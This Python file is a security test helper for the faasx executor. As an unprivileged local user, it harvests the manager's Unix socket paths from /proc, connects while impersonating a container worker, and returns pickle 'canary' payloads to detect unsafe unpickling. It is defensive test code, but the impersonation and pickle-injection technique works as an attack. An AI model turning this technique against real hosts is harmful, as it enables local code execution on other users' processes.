"""Another local user posing as a container worker (run by ``tests/containers/test_worker_sockets.py`` as
``nobody``).

Engines that cannot pass a descriptor into a container (docker, apptainer/singularity, shifter; podman
with ``--container-channel socket``) have the manager listen on a Unix socket whose path is on the
worker's command line.  This attacker, as an unprivileged user on the same host could:

1. collects every ``--connect PATH`` from ``/proc/*/cmdline``, and every listening Unix socket of the
   manager from ``/proc/net/unix`` (scoped to the manager's socket inodes, ``--scope-inodes``, which the
   test reads as root: other runs share this machine);
2. for ``--seconds``, keeps connecting to every such path; when a connection is accepted it says READY
   as a worker would, and answers every task it is sent with a *canary*: a pickle that creates
   ``--canary`` if the client ever unpickles it.

Prints one JSON report on stdout.  Needs pyzmq and msgpack, as ``attacker.py`` (faasx's wire format and framing
are read from the worktree).
"""
from __future__ import annotations

import argparse
import json
import os
import pickle
import re
import socket
import time

from faasx.executor import protocol as P
from faasx.executor.channel import Channel, ChannelClosed
from tests.security.attacker import Canary

CONNECT_RE = re.compile(rb"--connect\x00([^\x00]+)")


def paths_in_cmdlines() -> list:
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                found.update(m.decode() for m in CONNECT_RE.findall(f.read()))
        except OSError:
            continue
    return sorted(found)


def listening_paths(inodes: set) -> list:
    with open("/proc/net/unix") as f:
        rows = [line.split() for line in f.read().splitlines()[1:]]
    return sorted(r[7] for r in rows if len(r) >= 8 and r[6] in inodes and r[3] == "00010000")


def pose_as_worker(sock: socket.socket, path: str, versions: dict, canary: bytes, report: dict,
                   seconds: float = 3.0) -> None:
    """Say READY on an accepted connection (as the worker whose id is in the path), then answer whatever
    tasks come with canaries."""
    chan = Channel(sock)
    match = re.search(r"/w(\d+)-[^/]*$", path)
    chan.send(P.pack(P.READY, {"worker_id": int(match.group(1)) if match else 0, "pid": os.getpid(),
                               "versions": versions}))
    sock.settimeout(0.5)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            msg_type, body, payloads = P.unpack(chan.recv())
        except (socket.timeout, BlockingIOError):
            continue
        except (ChannelClosed, OSError):
            return
        report["messages"].append(P.TYPE_NAMES.get(msg_type, str(msg_type)))
        if msg_type == P.TASKS:
            tids = [t.tid for t in P.parse_tasks(body, payloads)]
            report["tasks_received"] += len(tids)
            chan.send(P.pack_results([P.Result(t, P.OK, canary) for t in tids]))
            report["canaries_sent"] += len(tids)


def attack(paths: list, versions: dict, canary: bytes, seconds: float) -> dict:
    report = {"attempts": 0, "connected": 0, "errors": {}, "tasks_received": 0, "canaries_sent": 0,
              "messages": []}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for path in paths:
            report["attempts"] += 1
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(1)
            try:
                sock.connect(path)
            except OSError as e:
                report["errors"][path] = f"{type(e).__name__}: {e}"
                sock.close()
                continue
            report["connected"] += 1
            try:
                pose_as_worker(sock, path, versions, canary, report)
            finally:
                sock.close()
        time.sleep(0.05)
    return report


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--scope-inodes", required=True, help="comma-separated socket inodes of the manager")
    parser.add_argument("--versions", required=True, help="JSON: the versions to claim (they are not secret)")
    parser.add_argument("--canary", required=True)
    parser.add_argument("--seconds", type=float, default=2.0)
    args = parser.parse_args()
    from_cmdlines = paths_in_cmdlines()
    listening = listening_paths(set(args.scope_inodes.split(",")))
    canary = b"P" + pickle.dumps(Canary(args.canary))
    report = attack(listening, json.loads(args.versions), canary, args.seconds)
    print(json.dumps({"uid": os.getuid(), "paths_in_cmdlines": from_cmdlines, "listening": listening, **report}))


if __name__ == "__main__":
    main()
